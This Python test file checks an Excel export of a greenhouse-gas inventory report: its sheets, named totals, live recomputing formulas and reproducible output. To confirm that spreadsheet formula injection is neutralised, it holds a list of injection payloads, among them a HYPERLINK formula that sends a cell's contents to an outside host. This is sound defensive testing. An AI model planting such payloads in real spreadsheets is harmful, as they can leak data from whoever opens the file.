"""The workbook holds the numbers, computes them again by itself, and runs nothing a snapshot says."""

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from apps.reports.datapoints import datapoints_of
from apps.reports.errors import SnapshotInvalid
from apps.reports.formats.excel import write_excel
from apps.reports.formats.lines import GAS as GAS_LETTERS
from apps.reports.formats.lines import LINE, scope_label
from apps.reports.formats.names import cell_names
from apps.reports.formats.scopes import all_scopes
from apps.reports.shapes import InventorySnapshot
from tests.reports.samples import CONTRACT, GAS, POWER, WOOD, factors_of, line_of, sample_snapshot
from tests.reports.test_snapshot import JANUARY

HOSTILE = (
    '=HYPERLINK("http://h/?x="&A1,"y")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "*",
    ">0",
    "north",
    "North",
    "\x01 control",
    "x" * 40_000,
)
LABELS = "|".join(re.escape(scope_label(look)) for look in all_scopes())
OURS = re.compile(
    rf"""=(SUM|SUMPRODUCT|IF|ABS|MAX|EXACT|"(?:agrees|differs|CO2_biogenic|{LABELS})"|"""
    r"""(?:(?:Lines|Gases|Terms|Summary|Sums)!)?\$?[A-Z]{1,2}\$?[0-9]+|[0-9.]+|[-+*/(),<>=:])+"""
)
"""Formulas of the workbook's own making: these functions, cells of these sheets, these texts, and numbers."""
THOROUGH = pytest.mark.thorough
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def opened(content: bytes, **options: Any) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content), **options)


def named(workbook: Workbook, name: str) -> Any:
    """The value of a named cell."""
    ((sheet, cell),) = workbook.defined_names[name].destinations
    return workbook[sheet][cell].value


def varied_snapshot() -> InventorySnapshot:
    """Hostile names, both methods, biomass, a credit, parts of lines: everything a formula may stumble over."""
    lines = [
        line_of(source, site=text, month=JANUARY, quantity="1234.5678901", row=row)
        for row, text in enumerate(HOSTILE, start=2)
        for source in (GAS, WOOD, POWER, CONTRACT)
    ]
    lines.append(line_of(GAS, site="North", month=JANUARY, quantity="-3", row=99))
    return sample_snapshot(
        lines=[
            line
            | {"agent": line["site"]}
            | ({"formula_text": line["site"]} if n % 2 else {})
            | ({"share": "0.333333"} if n % 3 else {})
            for n, line in enumerate(lines)
        ],
        boundary={
            "approach": "equity share",
            "entities": [{"name": HOSTILE[0], "share": 1}, {"name": HOSTILE[1], "share": "0.333333"}],
            "outside": 2,
        },
        factors=[row | {"citation": HOSTILE[0]} for row in factors_of((GAS, WOOD, POWER, CONTRACT))],
        organisation={"name": HOSTILE[0]},
        inputs=[{"file": "=1", "sha256": "+1", "rows_in": 1, "accepted": 0, "rejected": 1, "duplicate": 0}],
        rejected=[{"file": "=1", "row": 2, "column": "@x", "reason": "-1"}],
    )


@pytest.fixture(scope="module")
def sample() -> InventorySnapshot:
    return sample_snapshot()


@pytest.fixture(scope="module")
def workbook(sample: InventorySnapshot) -> Workbook:
    return opened(write_excel(sample))


def test_it_has_its_sheets(workbook: Workbook) -> None:
    stated, tables = (
        ["Summary", "Sums", "Datapoints", "Disclosures", "Sections", "Checklist"],
        ["Lines", "Gases", "Terms", "Factors"],
    )
    assert workbook.sheetnames == [*stated, *tables, "Inputs", "Provenance"]


def test_totals_are_numbers_under_their_names(workbook: Workbook) -> None:
    assert named(workbook, "Total_CO2e_kg") == pytest.approx(930307.11078171622512, rel=1e-15)
    assert named(workbook, "Scope1_CO2e_kg") == 283041.9360375
    assert named(workbook, "Scope2_location_CO2e_kg") == pytest.approx(647265.17474421622512, rel=1e-15)
    assert named(workbook, "Biogenic_CO2_kg") == 0


def test_the_snapshot_is_named(workbook: Workbook, sample: InventorySnapshot) -> None:
    assert named(workbook, "Snapshot_hash") == sample["snapshot_hash"]


def test_every_line_has_number_unit_factor_and_citation(workbook: Workbook, sample: InventorySnapshot) -> None:
    rows = list(workbook["Lines"].iter_rows(min_row=2, values_only=True))
    titles = [cell.value for cell in workbook["Lines"][1]]
    assert len(rows) == 60
    for row, line in zip(rows, sample["lines"], strict=True):
        cells = dict(zip(titles, row, strict=True))
        assert cells["Quantity"] == float(line["quantity"])
        assert cells["Unit"] == line["unit"]
        assert cells["Factor"] == float(line["factor"]["value"])
        assert cells["Citation"] == line["factor"]["citation"]
        assert cells["Chain hash"] == line["chain_hash"]
        assert cells["Calculated, kg CO2e"] == pytest.approx(float(line["co2e_kg"]), rel=1e-15)


def test_where_digits_would_be_lost_the_exact_decimal_stands_beside(
    workbook: Workbook, sample: InventorySnapshot
) -> None:
    exact = [cell.value for cell in workbook["Lines"][LINE["exact"]][1:]]
    for text, line in zip(exact, sample["lines"], strict=True):
        digits = Decimal(line["co2e_kg"]).as_tuple().digits
        assert text == (line["co2e_kg"] if len(digits) > 15 else None)
    assert any(exact)


def test_live_formulas_stand_beside_the_calculated_figures(workbook: Workbook) -> None:
    terms, gases, lines = workbook["Terms"], workbook["Gases"], workbook["Lines"]
    # Gas by its energy, then oil by its volume with a heat content between.
    assert [terms[f"B{n}"].value for n in (2, 4, 5)] == ["quantity", "quantity", "heat_content"]
    assert terms["F2"].value == "=52752792631/50"
    assert terms["G5"].value == "=C5*F5"
    assert gases[f"{GAS_LETTERS['again']}2"].value == "=Terms!G2*(E2*G2)"
    assert gases[f"{GAS_LETTERS['again']}8"].value == "=Terms!G4*Terms!G5*(E8*G8)"
    assert gases[f"{GAS_LETTERS['co2e again']}2"].value == "=I2*J2"
    assert lines[f"{LINE['again']}2"].value == "=SUM(Gases!L2:L4)"
    assert workbook["Summary"]["F8"].value == (
        "=SUMPRODUCT(--EXACT(Lines!$B$2:$B$61,A8),Lines!$S$2:$S$61,Lines!$M$2:$M$61)"
    )
    assert workbook["Summary"]["F10"].value == "=F8+F9"


def test_a_line_says_whether_it_is_recomputed_from_its_quantity() -> None:
    whole, other, short = (line_of(GAS, site="North", month=JANUARY, quantity="7", row=n) for n in (2, 3, 4))
    entered = {"name": "quantity", "value": "3.5", "unit": "mmBtu(HHV)"}
    snapshot = sample_snapshot(
        lines=[
            whole
            | {"inputs": [{"name": "q", "value": "7", "unit": "mmBtu(HHV)"}], "formula_text": "q * (3 - 1) / 2 * ef"},
            other | {"inputs": [entered]},
            short | {"formula_text": "distance * weight * ef"},
        ],
        factors=factors_of((GAS,)),
    )
    workbook = opened(write_excel(snapshot))
    how = [cell.value for cell in workbook["Lines"]["O"][1:]]
    assert how == [
        "quantity × factor × GWP",
        "mass × GWP only: the mass needs more than this snapshot holds",
        "mass × GWP only: this snapshot does not hold its distance and weight",
    ]
    again = workbook["Gases"][GAS_LETTERS["again"]]
    assert [again[n].value for n in (1, 4, 7)] == ["=Terms!G2*(3-1)/2*(E2*G2)", "=H5", "=H8"]


def test_every_stated_number_has_its_names(workbook: Workbook, sample: InventorySnapshot) -> None:
    points = datapoints_of(sample)
    for id_, point in points.items():
        for name in cell_names(id_):
            assert Decimal(repr(named(workbook, name))) == point.stated, name
    assert named(workbook, "GrossScope1GreenhouseGasEmissions") == 283.042
    assert not any(re.fullmatch(r"[A-Za-z]{1,3}[0-9]+", name) for name in workbook.defined_names)


def test_headings_stay_in_view_and_are_repeated_on_paper(workbook: Workbook) -> None:
    for sheet in (workbook["Lines"], workbook["Gases"], workbook["Factors"]):
        assert str(sheet.freeze_panes).endswith("2")
        assert sheet.print_title_rows == "$1:$1"
        assert sheet["A1"].fill.fgColor.rgb.endswith("0E5B3A")


def test_completeness_and_rejections_are_listed(workbook: Workbook, sample: InventorySnapshot) -> None:
    rows = list(workbook["Inputs"].iter_rows(values_only=True))
    assert rows[1][:5] == ("activity-2024.csv", 64, 60, 3, 1)
    assert [row[3] for row in rows[-3:]] == [row["reason"] for row in sample["rejected"]]
    provenance = workbook["Provenance"].iter_rows(min_row=2, max_col=2, values_only=True)
    assumed = next(str(said) for name, said in provenance if name == "Taken for granted: Erdgas Halle 2")
    assert assumed.startswith("Another region: for United States (US), and the rows are in DE. Factor: Natural Gas")
    assert assumed.endswith("3 lines, 1234.5 kg CO2e. P. Reparer, 2025-02-01: No German figure is published")


def test_one_snapshot_gives_the_same_bytes(sample: InventorySnapshot, monkeypatch: pytest.MonkeyPatch) -> None:
    first = write_excel(sample)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert write_excel(sample) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2025-02-03T09:30:00Z</dcterms:modified>" in archive.read("docProps/core.xml")


def test_only_our_own_formulas_are_formulas() -> None:
    workbook = opened(write_excel(varied_snapshot()))
    texts = 0
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OURS.fullmatch(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                    texts += 1
    assert texts > 60


def test_text_too_long_for_a_cell_says_that_it_was_cut() -> None:
    workbook = opened(write_excel(varied_snapshot()))
    longest = max((str(cell.value) for cell in workbook["Lines"]["D"]), key=len)
    assert len(longest) == 32_767
    assert longest.endswith("… (cut)")


def test_a_broken_snapshot_is_never_written(sample: InventorySnapshot) -> None:
    with pytest.raises(SnapshotInvalid):
        write_excel({**sample, "gwp_set": "AR6"})


def test_an_empty_period_can_be_written() -> None:
    workbook = opened(write_excel(sample_snapshot(lines=[], factors=[], inputs=[], rejected=[])))
    assert named(workbook, "Total_CO2e_kg") == 0


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize(
    "kind",
    [pytest.param("sample", marks=pytest.mark.thorough), "varied", pytest.param("empty", marks=pytest.mark.thorough)],
)
def test_another_program_computes_the_same_totals(kind: str, tmp_path: Path) -> None:
    makers: dict[str, Callable[[], InventorySnapshot]] = {
        "sample": sample_snapshot,
        "varied": varied_snapshot,
        "empty": lambda: sample_snapshot(lines=[], factors=[], inputs=[], rejected=[]),
    }
    snapshot = makers[kind]()
    computed = opened(recomputed(write_excel(snapshot), tmp_path), data_only=True)
    checks = [
        cell.value
        for sheet in computed
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in ("agrees", "differs") or (isinstance(cell.value, str) and cell.value.startswith("#"))
    ]
    assert set(checks) == {"agrees"}
    summary = computed["Summary"]
    totals = {row[0]: row for row in summary.iter_rows(min_row=8, values_only=True) if row[0]}
    expected = float(snapshot["totals"]["co2e_kg"])
    assert totals["Total, scope 2 location-based"][5] == pytest.approx(expected, rel=1e-12)
    assert totals["Biogenic CO2, outside the scopes"][5] == pytest.approx(
        float(snapshot["totals"]["co2_biogenic_kg"]), rel=1e-12
    )


def recomputed(content: bytes, folder: Path) -> bytes:
    """The workbook as LibreOffice saves it after computing every formula."""
    assert SOFFICE is not None
    (folder / "in").mkdir()
    (folder / "in" / "report.xlsx").write_bytes(content)
    command = [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to"]
    target = ["xlsx:Calc MS Excel 2007 XML", "--outdir", str(folder), str(folder / "in" / "report.xlsx")]
    subprocess.run([*command, *target], check=True, capture_output=True, timeout=180)
    return (folder / "report.xlsx").read_bytes()
